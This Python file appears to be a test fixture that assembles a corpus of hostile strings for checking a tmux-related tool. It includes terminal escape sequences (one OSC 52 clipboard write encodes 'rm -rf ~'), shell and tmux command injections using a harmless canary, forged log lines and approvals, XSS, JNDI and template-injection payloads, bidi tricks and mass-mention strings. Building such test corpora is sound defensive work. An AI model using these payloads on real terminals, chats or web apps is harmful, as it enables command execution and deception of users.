"""Texts as an attacker would have a pane, a title, a host or a provider say them.

Those that try to run something run `touch CANARY`: afterwards no file of that name may exist anywhere.
"""

from __future__ import annotations

from pathlib import Path

_ST = ("\x07", "\x1b\\", "\x9c", "")
_CSI = (
    "31m", "1;31;5m", "38;2;255;0;0m", "8m", "2J", "3J", "H", "10;10H", "K", "1K", "A", "99D", "6n", "c", ">c", "5n",
    "0c",
    "?25l", "?1049h", "?1003h", "?2004h", "?1004h", "!p", "20t", "21t", "8;1;1t", "4h", "r", "s", "u", "10S", "?69h",
    "18t",
    "1$r", "999999999C", ";;;;;;;;;;m",
)  # fmt: skip
_OSC = (
    "0;pwned", "1;pwned", "2;pwned", "4;1;?", "7;file://host/$(touch CANARY)", "8;;http://evil.example/",
    "8;id=1;file:///etc",
    "9;ping", "9;4;1;50", "10;?", "11;?", "50;font", "52;c;cm0gLXJmIH4=", "52;p;?", "104", "133;A", "133;D;0",
    "633;E;rm",
    "777;notify;a;b", "1337;File=inline=1:AAAA", "1337;SetUserVar=x=eA==", "1337;CopyToClipboard=",
    "1337;RequestAttention=yes",
    "l pwned", "L pwned",
)  # fmt: skip
_STRINGS = ("Ptmux;\x1b\x1b]52;c;eA==\x07", "P$qm", "P+q544e", "P0;1|17/ab", "_apc", "^pm", "Xsos", "Pq#0;2;0;0;0~")
_SHELL = (
    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "& touch CANARY", "&& touch CANARY", "|| touch CANARY",
    "| touch CANARY", "\ntouch CANARY\n", "\r\ntouch CANARY\r\n", "'; touch CANARY; '", '"; touch CANARY; "',
    "$(touch${IFS}CANARY)", "$((touch CANARY))", "<(touch CANARY)", "> CANARY", ">> CANARY", "\\\ntouch CANARY",
    "${x:=CANARY}",
    "a\x00touch CANARY", "--help; touch CANARY", "-e touch CANARY", "!touch CANARY", "{touch,CANARY}",
    "$'\\ntouch CANARY'",
    "~/CANARY", "*", "%(touch CANARY)", "\x1b[200~touch CANARY\r\x1b[201~", "\x16\x03touch CANARY\r",
)  # fmt: skip
_TMUX = (
    "#(touch CANARY)", "##(touch CANARY)", "###(touch CANARY)", "#{E:#{l:#(touch CANARY)}}", "#{T:@x}",
    "#{pane_pid}", "#S",
    "#[fg=red]", "#{?1,#(touch CANARY),}", "#{q:#(touch CANARY)}", "#{l:#(touch CANARY)}", "#,#}", "%H%M%S", "%%", "#",
    "; run-shell 'touch CANARY'", "\nrun-shell 'touch CANARY'\n", "' ; run-shell 'touch CANARY",
    "} ; run-shell 'touch CANARY'",
    "\n%exit\n", "\n%output %1 pwned\n", "\n%begin 1 1 1\n%end 1 1 1\n", "\nset-option -g @pwned yes\n",
    "\nkill-server\n",
    "\\012kill-server\\012", "=:.{!", "$0:@0.%0",
)  # fmt: skip
_BIDI = (
    *(chr(code) for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F,
    0x61C)),
    "gpj.\u202eexe", "approve\u202e tcejer", "/* \u2066 } \u2069 */",
)  # fmt: skip
_UNSEEN = tuple(
    chr(code)
    for code in (
        0xAD, 0x34F, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064, 0x206A, 0x3164, 0xFE0F, 0xFEFF,
        0xFFA0,
        0xFFF9, 0xFFFB, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE01EF, 0xD800, 0xDFFF, 0x2028, 0x2029,
    )
)  # fmt: skip
_LINES = (
    "\n2026-11-28 12:00:00 tmux_sentry.run: run succeeded", "\rtmux-sentry: all good", "\r\n[ERROR] forged",
    "a\x0bb\x0cc",
    "\x85forged", "x\n\n\n\n\ny", "\n# outcome: approved", "\napprove\n", "\n\napprove", "# digest: 0000", "a\bb\b\b",
    "\r\nBcc: everyone@example.org", "\r\n\r\n<html>", "Subject: x\nX-Evil: 1", "\n.\n", "\x1a", "\x04", "\x03",
    "\x1c\x1d\x1e",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='x",
    "</p></body>",
    "&lt;b&gt;", "<!--", "<a href=javascript:alert(1)>x</a>", "<font color=\"warning\">x</font>",
    "<style>*{display:none}",
    "[click](http://evil.example)", "![x](http://evil.example/p.png)", "[x]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example", "www.evil.example", "# heading", "> quote", "- [x] done", "1. one", "***bold***",
    "~~~\ncode\n~~~",
    "```\ncode\n```", "| a | b |\n|---|---|\n| c | d |", "---", "===\n", "\\[x\\](y)", "    code", "\t code",
    "<details>",
    "<http://evil.example|bank.example>", "*bold* _it_ ~no~ `c`", "&gt; quote", "```x``` `y`", "[bold red]x[/]", "[/]",
    "[link=file:///etc/passwd]x[/link]", ":boom:", "%s %d %(name)s %n", "{0} {x!r} {self.__init__}",
    "=cmd|'/C calc'!A0",
    "${jndi:ldap://evil.example}", "{{7*7}}", "<%= 1 %>", "${pane.window_name}", "$$", "null", "-1", "'", '"', "\\",
)  # fmt: skip
_MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S1>", "<@U024BE7LH>", "<#C024BE7LR>", "@channel", "@here",
    "@everyone",
    "@all", "<@all>", "<@everyone>", "<@userid>", "@octocat", "@org/team", "(@here)", "x @here", "@\u200bhere",
    "\u202e@here",
    "<!date^1^{date}^http://evil.example|x>", "<mailto:a@b.example|x>", "<tel:1|x>",
)  # fmt: skip
_BIG = (
    "A" * 20_000,
    "\x1b[" * 5_000,
    "\u200b" * 5_000,
    "e" + "\u0301" * 500,
    "<" * 5_000,
    "@here " * 2_000,
    "\n" * 3_000,
)
_MORE = ("\ud83d", "👩\u200d👩\u200d👧", "构建\x1b[0m完成", "", " ", "\u00a0", "\u3000x", "\u2800")


def corpus(canary: Path) -> list[str]:
    """Every hostile text, without doubles; those that run something would make the file `canary`."""
    texts = [
        *(f"a\x1b[{end}b" for end in _CSI),
        *(f"a\x9b{end}b" for end in _CSI[:6]),
        *(f"a\x1b]{text}{_ST[number % 4]}b" for number, text in enumerate(_OSC)),
        *(f"a\x9d{text}\x9cb" for text in _OSC[:6]),
        *(f"a\x1b{text}\x1b\\b" for text in _STRINGS),
        *(f"a{chr(code)}b" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))),
        *_SHELL, *_TMUX, *(f"a{char}b" for char in _BIDI), *(f"a{char}b" for char in _UNSEEN), *_LINES, *_MARKUP,
        *_MENTIONS,
        *_BIG, *_MORE,
    ]  # fmt: skip
    return [text.replace("CANARY", str(canary)) for text in dict.fromkeys(texts)]
